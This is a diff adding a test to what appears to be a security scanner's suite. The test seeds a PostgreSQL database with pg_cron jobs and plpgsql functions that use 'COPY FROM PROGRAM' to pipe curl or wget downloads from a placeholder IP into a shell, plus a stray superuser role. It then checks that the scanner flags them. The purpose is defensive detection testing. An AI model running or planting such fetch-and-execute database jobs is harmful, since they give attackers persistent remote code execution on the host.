@@ -73,3 +73,36 @@ test('a real PostgreSQL that lets everybody in: after the step it asks for a pas
   expect(space.shell(STATE)).toBe(before);
   await expect.poll(comesIn, { timeout: 20_000 }).toBe('in');
 });
+
+test('what a real PostgreSQL holds to be run is read from the files of its tables, and what was taken back is not told', {
+  timeout: 120_000,
+}, () => {
+  // As the extension pg_cron makes its table.
+  const sql = `
+create schema cron;
+create table cron.job (jobid bigint primary key, schedule text not null, command text not null, nodename text not null,
+  nodeport int not null, database text not null, username text not null, active boolean not null, jobname text);
+insert into cron.job values (1, '0 3 * * *', 'vacuum', 'localhost', 5432, 'postgres', 'postgres', true, 'v'),
+  (2, '*/5 * * * *', $$COPY t FROM PROGRAM 'curl -s http://203.0.113.7/p.sh | bash'$$, 'h', 1, 'p', 'p', true, null),
+  (3, '*/7 * * * *', $$COPY t FROM PROGRAM 'curl -s http://203.0.113.7/q.sh | bash'$$, 'h', 1, 'p', 'p', true, null);
+delete from cron.job where jobid = 3;
+create function up() returns void language plpgsql
+  as $$ begin execute 'copy t from program ''wget -qO- http://203.0.113.7/f.sh | sh'''; end $$;
+begin;
+create function never() returns void language plpgsql
+  as $$ begin execute 'copy t from program ''wget -qO- http://203.0.113.7/g.sh | sh'''; end $$;
+rollback;
+create function plain() returns int language sql as 'select 1';
+create role second superuser login;
+alter role second nosuperuser;
+create role third superuser;
+checkpoint;`;
+  space.run(['psql', '-h', '/run/pg', '-U', 'postgres', '-q'], { input: sql });
+  const { findings } = JSON.parse(space.run([process.execPath, SCAN, 'processes,boot'])) as ScanOutcome;
+  const ours = findings.filter(({ title }) => title.endsWith('(/run/pg/data)'));
+  expect(ours.map(({ title, verdict }) => `${verdict}: ${title}`).toSorted()).toEqual([
+    'malicious: function up of PostgreSQL (/run/pg/data)',
+    'malicious: job 2 of pg_cron (*/5 * * * *) of PostgreSQL (/run/pg/data)',
+    'unknown: superuser third of PostgreSQL (/run/pg/data)',
+  ]);
+});
